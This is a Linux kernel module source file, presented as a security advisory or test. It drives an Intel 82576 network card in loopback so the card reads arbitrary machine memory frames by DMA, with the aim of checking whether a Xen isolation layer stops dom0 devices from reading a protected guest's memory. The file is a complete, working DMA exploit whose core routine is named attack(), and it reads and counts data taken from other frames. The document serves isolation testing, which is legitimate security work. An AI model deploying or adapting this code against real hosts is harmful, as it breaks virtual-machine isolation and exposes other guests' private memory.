/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's memory by DMA of a device that dom0 drives
 *
 * Claim: with Cloister, no device of dom0 can read a protected guest's memory:
 * the IOMMU faults.
 *
 * Method: the lab's second NIC (82576, "igb") sends to itself, MAC loopback.
 * Each packet is a header of ours and, as second fragment, 4 KiB at the device
 * address of a machine frame; what arrives in our receive buffers is what the
 * NIC has read there, and lines are counted in it.
 *
 * Frames go out in batches, in which the first and the last packet are of our
 * own memory: a batch counts as tried only when both have arrived.  For after
 * some faults Xen takes bus mastering from a device, and then nothing is read
 * anywhere, which proves nothing; it is given back before each batch.
 *
 * Stock Xen: a PV dom0's devices reach all RAM but Xen's ("relaxed" mode), so
 * lines arrive.  With a PVH dom0, device addresses are dom0's guest frames on
 * stock Xen, too, and none arrive.
 *
 *   insmod nicdma.ko ram=FIRST,LAST[,FIRST,LAST...] [stride=FRAMES]
 *   ...; cat /sys/module/nicdma/parameters/{lines,pages,tried}
 */

#include <linux/delay.h>
#include <linux/dma-mapping.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/sched.h>

#include "lines.h"

#define MAX_RANGES 32

static unsigned long ram[MAX_RANGES];
static int ram_count;
module_param_array(ram, ulong, &ram_count, 0444);
static unsigned long stride = 1;
module_param(stride, ulong, 0444);
static int bus, slot = 3;
module_param(bus, int, 0444);
module_param(slot, int, 0444);
/*
 * Results: lines, frames that arrived and were not all zero (which is what
 * QEMU sends of a fragment that faults), frames tried, batches sent again.
 */
static unsigned long lines, pages, tried, retried;
module_param(lines, ulong, 0444);
module_param(pages, ulong, 0444);
module_param(tried, ulong, 0444);
module_param(retried, ulong, 0444);

/* Registers of the 82576, queue 0 */
/* clang-format off */
#define CTRL     0x0000
#define  CTRL_SLU       (1u << 6)
#define STATUS   0x0008
#define  STATUS_LU      (1u << 1)
#define MDIC     0x0020
#define  MDIC_WRITE     ((1u << 26) | (1u << 21))   /* PHY 1 */
#define  MDIC_CONTROL   (0u << 16)                  /* its register 0 */
#define  PHY_AUTONEG    0x1340u                     /* restart it, 1000 FD */
#define RCTL     0x0100
#define  RCTL_EN        (1u << 1)
#define  RCTL_SBP       (1u << 2)
#define  RCTL_UPE       (1u << 3)
#define  RCTL_LPE       (1u << 5)
#define  RCTL_LBM_MAC   (1u << 6)
#define TCTL     0x0400
#define  TCTL_EN        (1u << 1)
#define IMC      0x150c
#define EIMC     0x1528
#define RLPML    0x5004
#define RDBAL    0xc000
#define RDBAH    0xc004
#define RDLEN    0xc008
#define SRRCTL   0xc00c
#define  SRRCTL_8K      8u
#define  SRRCTL_ONEBUF  (1u << 25)
#define RDH      0xc010
#define RDT      0xc018
#define RXDCTL   0xc028
#define TDBAL    0xe000
#define TDBAH    0xe004
#define TDLEN    0xe008
#define TDH      0xe010
#define TDT      0xe018
#define TXDCTL   0xe028
#define  DCTL_ENABLE    (1u << 25)

#define TX_DATA  ((3u << 20) | (1u << 29) | (1u << 25)) /* advanced, FCS */
#define TX_EOP   (1u << 24)
#define RX_DD    1u
/* clang-format on */

/* The rings, and what packets are made of: one page each. */
#define RING     256u                   /* descriptors */
#define BATCH    64u                    /* packets, with the two of our own */
#define FRAME    4096u
#define ETH      14u
#define HEADER   24u                    /* Ethernet's, 2 bytes, frame number */
#define BUFFER   8192u
#define OWN      (~0ULL)                /* the "frame number" of our page */
#define TRIES    20

struct descriptor {
    __le64 address;
    __le32 low, high;   /* tx: type and length, packet length; rx: status */
};

struct memory {
    void *virt;
    dma_addr_t dma;
};

static struct pci_dev *nic;
static u8 __iomem *regs;
static struct memory tx, rx, headers, own, buffers[RING];
static unsigned int tx_tail, rx_head;

static int get_memory(struct memory *m, size_t size)
{
    m->virt = dma_alloc_coherent(&nic->dev, size, &m->dma, GFP_KERNEL);
    return m->virt ? 0 : -ENOMEM;
}

static void put_memory(struct memory *m, size_t size)
{
    if ( m->virt )
        dma_free_coherent(&nic->dev, size, m->virt, m->dma);
    m->virt = NULL;
}

static int get_all_memory(void)
{
    unsigned int i;
    int rc = get_memory(&tx, FRAME) ?: get_memory(&rx, FRAME) ?:
             get_memory(&headers, FRAME) ?: get_memory(&own, FRAME);

    for ( i = 0; !rc && i < RING; i++ )
        rc = get_memory(&buffers[i], BUFFER);
    return rc;
}

static void put_all_memory(void)
{
    unsigned int i;

    for ( i = 0; i < RING; i++ )
        put_memory(&buffers[i], BUFFER);
    put_memory(&own, FRAME);
    put_memory(&headers, FRAME);
    put_memory(&rx, FRAME);
    put_memory(&tx, FRAME);
}

static void refill(unsigned int i)
{
    struct descriptor *d = (struct descriptor *)rx.virt + i;

    d->address = cpu_to_le64(buffers[i].dma);
    d->low = d->high = 0;
}

static void set_ring(unsigned int low, const struct memory *ring)
{
    writel(lower_32_bits(ring->dma), regs + low);
    writel(upper_32_bits(ring->dma), regs + low + 4);
    writel(RING * sizeof(struct descriptor), regs + low + 8);
}

static int start(void)
{
    unsigned int i, tries = 200;

    writel(~0u, regs + IMC);
    writel(~0u, regs + EIMC);
    writel(readl(regs + CTRL) | CTRL_SLU, regs + CTRL);
    writel(MDIC_WRITE | MDIC_CONTROL | PHY_AUTONEG, regs + MDIC);
    while ( !(readl(regs + STATUS) & STATUS_LU) )
    {
        if ( !tries-- )
            return -ENOLINK;
        msleep(20);
    }

    for ( i = 0; i < RING; i++ )
        refill(i);
    memset(own.virt, 0x33, FRAME);
    set_ring(RDBAL, &rx);
    set_ring(TDBAL, &tx);
    writel(SRRCTL_8K | SRRCTL_ONEBUF, regs + SRRCTL);
    writel(9000, regs + RLPML);
    writel(DCTL_ENABLE, regs + RXDCTL);
    writel(DCTL_ENABLE, regs + TXDCTL);
    writel(RCTL_EN | RCTL_SBP | RCTL_UPE | RCTL_LPE | RCTL_LBM_MAC,
           regs + RCTL);
    writel(TCTL_EN, regs + TCTL);
    writel(0, regs + RDH);
    writel(0, regs + TDH);
    writel(0, regs + TDT);
    writel(RING - 1, regs + RDT);
    return 0;
}

static void stop(void)
{
    writel(0, regs + TCTL);
    writel(0, regs + RCTL);
    writel(0, regs + TXDCTL);
    writel(0, regs + RXDCTL);
}

static void add_fragment(dma_addr_t address, unsigned int size, u32 flags)
{
    struct descriptor *d = (struct descriptor *)tx.virt + tx_tail;

    d->address = cpu_to_le64(address);
    d->low = cpu_to_le32(TX_DATA | flags | size);
    d->high = cpu_to_le32((HEADER + FRAME) << 14);
    tx_tail = (tx_tail + 1) % RING;
}

/* The batch's packet number I: memory at ADDRESS, which is frame MFN. */
static void add_packet(unsigned int i, u64 mfn, dma_addr_t address)
{
    static const u8 ethernet[ETH] = {
        2, 0, 0, 0, 0, 1,  2, 0, 0, 0, 0, 2,  0x88, 0xb5,
    };
    u8 *header = headers.virt + i * HEADER;

    memcpy(header, ethernet, ETH);
    memcpy(header + HEADER - sizeof(mfn), &mfn, sizeof(mfn));
    add_fragment(headers.dma + i * HEADER, HEADER, 0);
    add_fragment(address, FRAME, TX_EOP);
}

/* All sent? */
static bool transmit(void)
{
    unsigned int polls;

    wmb();
    /* Xen may have taken this away. */
    pci_set_master(nic);
    writel(tx_tail, regs + TDT);
    for ( polls = 0; polls < 1000; polls++ )
    {
        if ( readl(regs + TDH) == tx_tail )
            return true;
        udelay(10);
    }
    return false;
}

/* What came back; returns how many packets of our own. */
static unsigned int receive(unsigned long *got, unsigned long *found)
{
    unsigned int ours = 0, end = readl(regs + RDH);

    rmb();
    for ( ; rx_head != end; rx_head = (rx_head + 1) % RING )
    {
        struct descriptor *d = (struct descriptor *)rx.virt + rx_head;
        const void *packet = buffers[rx_head].virt;
        u64 mfn;

        memcpy(&mfn, packet + HEADER - sizeof(mfn), sizeof(mfn));
        if ( !(le32_to_cpu(d->low) & RX_DD) )
            /* The NIC had no bus mastering */;
        else if ( mfn == OWN )
            ours++;
        else
        {
            *got += !!memchr_inv(packet + HEADER, 0, FRAME);
            *found += lines_in(packet + HEADER, FRAME);
        }
        refill(rx_head);
    }
    wmb();
    writel((rx_head + RING - 1) % RING, regs + RDT);
    return ours;
}

/* COUNT frames, STRIDE apart. */
static int try_batch(unsigned long mfn, unsigned int count)
{
    unsigned int tries;

    for ( tries = 0; tries < TRIES; tries++ )
    {
        unsigned long got = 0, found = 0;
        unsigned int i;

        add_packet(0, OWN, own.dma);
        for ( i = 0; i < count; i++ )
            add_packet(i + 1, mfn + i * stride,
                       (dma_addr_t)(mfn + i * stride) * FRAME);
        add_packet(count + 1, OWN, own.dma);
        if ( !transmit() )
            return -EIO;
        if ( receive(&got, &found) == 2 )
        {
            tried += count;
            pages += got;
            lines += found;
            return 0;
        }
        retried++;
        cond_resched();
    }
    return -EIO;
}

static int try_range(unsigned long mfn, unsigned long last)
{
    int rc = 0;

    while ( !rc && mfn <= last )
    {
        unsigned long left = (last - mfn) / stride + 1;
        unsigned int count = min(left, BATCH - 2UL);

        rc = try_batch(mfn, count);
        mfn += count * stride;
        cond_resched();
    }
    return rc;
}

static int attack(void)
{
    int i, rc = start();

    for ( i = 0; !rc && i + 1 < ram_count; i += 2 )
        rc = try_range(ram[i], ram[i + 1]);
    stop();
    return rc;
}

static int with_registers(void)
{
    int rc = dma_set_mask_and_coherent(&nic->dev, DMA_BIT_MASK(64));

    if ( rc )
        return rc;
    regs = pci_ioremap_bar(nic, 0);
    if ( !regs )
        return -ENODEV;
    pci_set_master(nic);
    rc = get_all_memory() ?: attack();
    pci_clear_master(nic);
    put_all_memory();
    iounmap(regs);
    return rc;
}

static int __init nicdma_init(void)
{
    int rc;

    BUILD_BUG_ON(BATCH * 2 >= RING || BATCH * HEADER > FRAME);
    nic = pci_get_domain_bus_and_slot(0, bus, PCI_DEVFN(slot, 0));
    if ( !nic || nic->device != 0x10c9 || !stride )
    {
        pr_err("nicdma: no 82576 without a driver there\n");
        return -ENODEV;
    }
    rc = pci_enable_device(nic) ?: with_registers();
    pci_dev_put(nic);
    pr_info("nicdma: lines %lu pages %lu tried %lu retried %lu: %d\n", lines,
            pages, tried, retried, rc);
    return rc;
}

static void __exit nicdma_exit(void)
{
}

module_init(nicdma_init);
module_exit(nicdma_exit);
MODULE_DESCRIPTION("Read memory by a network card's DMA");
MODULE_LICENSE("Dual BSD/GPL");
